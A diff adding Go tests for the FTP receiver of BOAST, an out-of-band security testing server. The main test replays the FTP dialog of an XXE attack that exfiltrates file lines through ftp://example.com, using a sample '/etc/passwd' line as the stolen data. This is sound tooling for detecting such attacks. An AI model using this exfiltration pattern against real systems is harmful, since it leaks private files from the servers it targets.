@@ -0,0 +1,164 @@
+package ftprcv_test
+
+import (
+	"io"
+	"io/ioutil"
+	"net"
+	"net/textproto"
+	"os"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+
+	app "github.com/ciphermarco/BOAST"
+	"github.com/ciphermarco/BOAST/log"
+	"github.com/ciphermarco/BOAST/receivers/ftprcv"
+	"github.com/ciphermarco/BOAST/receivers/internal/recordertest"
+)
+
+const tID = recordertest.ID
+
+func TestMain(m *testing.M) {
+	log.SetOutput(ioutil.Discard)
+	os.Exit(m.Run())
+}
+
+// newTestConn serves a receiver on a random local port and returns a connection to it
+// after reading the greeting.
+func newTestConn(t *testing.T, strg app.Recorder) *textproto.Conn {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	rcv := &ftprcv.Receiver{Name: "FTP receiver", Storage: strg}
+	go rcv.Serve(ln)
+
+	c, err := net.Dial("tcp", ln.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	c.SetDeadline(time.Now().Add(5 * time.Second))
+	conn := textproto.NewConn(c)
+	t.Cleanup(func() { conn.Close() })
+	if _, _, err := conn.ReadResponse(220); err != nil {
+		t.Fatalf("unexpected error: %v (want) != %v (got)", nil, err)
+	}
+	return conn
+}
+
+// cmd sends a command and checks the reply's code.
+func cmd(t *testing.T, conn *textproto.Conn, code int, format string, args ...interface{}) {
+	t.Helper()
+	if _, err := conn.Cmd(format, args...); err != nil {
+		t.Fatal(err)
+	}
+	if got, _, err := conn.ReadResponse(0); got != code {
+		t.Errorf("wrong reply to %q: %v (want) != %v (got) (%v)", format, code, got, err)
+	}
+}
+
+// quit ends the session and waits for the server to close the connection.
+func quit(t *testing.T, conn *textproto.Conn) {
+	cmd(t, conn, 221, "QUIT")
+	if _, err := conn.ReadLine(); err != io.EOF {
+		t.Errorf("connection not closed: %v (want) != %v (got)", io.EOF, err)
+	}
+}
+
+func TestFTPSession(t *testing.T) {
+	strg := &recordertest.Recorder{}
+	conn := newTestConn(t, strg)
+
+	// The dialog of an XXE exfiltrating a file's lines via ftp://example.com/<id>/<lines>.
+	cmd(t, conn, 331, "USER anonymous")
+	cmd(t, conn, 230, "PASS Java1.8.0@")
+	cmd(t, conn, 200, "TYPE I")
+	cmd(t, conn, 250, "CWD %s", tID)
+	cmd(t, conn, 250, "CWD root:x:0:0:root:")
+	cmd(t, conn, 502, "EPSV ALL")
+	cmd(t, conn, 502, "PASV")
+	cmd(t, conn, 200, "EPRT |1|192.0.2.10|40001|")
+	cmd(t, conn, 200, "PORT 192,0,2,10,156,66")
+	cmd(t, conn, 200, "EPRT |2|2001:db8::10|40003|")
+	cmd(t, conn, 550, "RETR bin:/bin/sh")
+	cmd(t, conn, 553, "STOR upload.txt")
+	quit(t, conn)
+
+	evts := strg.Events()
+	if len(evts) != 1 {
+		t.Fatalf("wrong events: %v (want) != %v (got)", 1, len(evts))
+	}
+	evt := evts[0]
+	if evt.Receiver != "FTP" {
+		t.Errorf("wrong receiver: %v (want) != %v (got)", "FTP", evt.Receiver)
+	}
+	want := &app.FTPInfo{
+		User:     "anonymous",
+		Password: "Java1.8.0@",
+		Commands: []string{
+			"CWD " + tID,
+			"CWD root:x:0:0:root:",
+			"RETR bin:/bin/sh",
+			"STOR upload.txt",
+		},
+		DataAddrs: []string{"192.0.2.10:40001", "192.0.2.10:40002", "[2001:db8::10]:40003"},
+	}
+	if !reflect.DeepEqual(want, evt.FTP) {
+		t.Errorf("wrong FTP info: %v (want) != %v (got)", want, evt.FTP)
+	}
+	if !strings.HasPrefix(evt.Dump, "USER anonymous\r\nPASS Java1.8.0@\r\n") ||
+		!strings.HasSuffix(evt.Dump, "STOR upload.txt\r\nQUIT\r\n") {
+		t.Errorf("wrong dump: %q", evt.Dump)
+	}
+}
+
+func TestFTPSessionIDInUser(t *testing.T) {
+	strg := &recordertest.Recorder{}
+	conn := newTestConn(t, strg)
+
+	cmd(t, conn, 331, "USER %s", tID)
+	cmd(t, conn, 230, "PASS secret")
+	quit(t, conn)
+
+	if evts := strg.Events(); len(evts) != 1 {
+		t.Errorf("wrong events: %v (want) != %v (got)", 1, len(evts))
+	}
+}
+
+func TestFTPSessionNoID(t *testing.T) {
+	strg := &recordertest.Recorder{}
+	conn := newTestConn(t, strg)
+
+	cmd(t, conn, 331, "USER anonymous")
+	cmd(t, conn, 230, "PASS anonymous")
+	// Only the recorded arguments are matched.
+	cmd(t, conn, 502, "SITE %s", tID)
+	quit(t, conn)
+
+	if evts := strg.Events(); len(evts) != 0 {
+		t.Errorf("wrong events: %v (want) != %v (got)", 0, len(evts))
+	}
+}
+
+func TestFTPInvalidDataAddr(t *testing.T) {
+	conn := newTestConn(t, &recordertest.Recorder{})
+
+	for _, c := range []string{
+		"PORT 192,0,2,10,156",
+		"PORT 192,0,2,256,156,66",
+		"EPRT |3|192.0.2.10|40001|",
+		"EPRT |1|example.com|40001|",
+		"EPRT |1|192.0.2.10|65536|",
+		"EPRT 1",
+	} {
+		cmd(t, conn, 501, c)
+	}
+}
+
+func TestFTPLineTooLong(t *testing.T) {
+	conn := newTestConn(t, &recordertest.Recorder{})
+
+	cmd(t, conn, 500, "CWD %s", strings.Repeat("a", 4096))
+}